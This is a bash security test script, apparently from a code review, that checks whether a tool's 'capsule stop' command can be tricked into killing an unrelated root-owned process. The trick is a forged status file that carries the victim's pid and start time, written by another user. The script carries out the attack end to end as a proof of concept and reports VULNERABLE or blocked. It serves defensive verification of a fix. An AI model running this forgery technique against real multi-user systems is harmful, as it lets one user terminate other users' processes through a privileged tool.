#!/bin/bash
# Finding (bypass of b59bb12's stop check): the start-time check proves the
# pid is the process the status file names, not that the file was written
# by a keeper. gw_instance_list/gw_instance_stop (src/gateway/
# instance_status.c) read STATE/run without gw_instance_check_run_dir and
# status_read accepts any file there (no owner/mode check). Whoever can
# write the run directory (another user's or a shared --state/CAPSULE_STATE,
# a project's state) writes NAME.status with pid= any victim and pid_start=
# its field 22 from the world-readable /proc/PID/stat; `capsule stop NAME`
# (here as root) SIGTERMs the victim through the pidfd.
# Exits 1 when root's unrelated process is killed, 0 blocked, 77 cannot run.
capsule=$(realpath "${1:-build/capsule}")
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root"; exit 77; }
W=$(mktemp -d /var/tmp/capsule-review4-stop.XXXXXX)
sleep 300 & victim=$!
trap 'kill $victim 2>/dev/null; rm -rf "$W"' EXIT
chmod 755 "$W"; mkdir -p "$W/state"; chown 65534:65534 "$W/state"
# the other user forges a status file naming root's process
setpriv --reuid=65534 --regid=65534 --clear-groups -- /bin/sh -c "
mkdir -p $W/state/run && chmod 700 $W/state/run &&
start=\$(sed 's/.*) //' /proc/$victim/stat | cut -d' ' -f20) &&
printf 'capability=helper\npid=$victim\nstate=serving\nleases=0\nmax_leases=1\nstarted_ms=0\nidle_since_ms=0\npid_start=%s\n' \"\$start\" >$W/state/run/helper.status" ||
  { echo "setup failed"; exit 77; }
cd /tmp || exit 77
"$capsule" ps --state "$W/state" 2>&1
"$capsule" stop --state "$W/state" helper 2>&1 </dev/null
sleep 1
if ! kill -0 $victim 2>/dev/null; then
  echo "VULNERABLE: capsule stop killed root's unrelated process (pid $victim) named by a forged status file"; exit 1
fi
echo blocked; exit 0
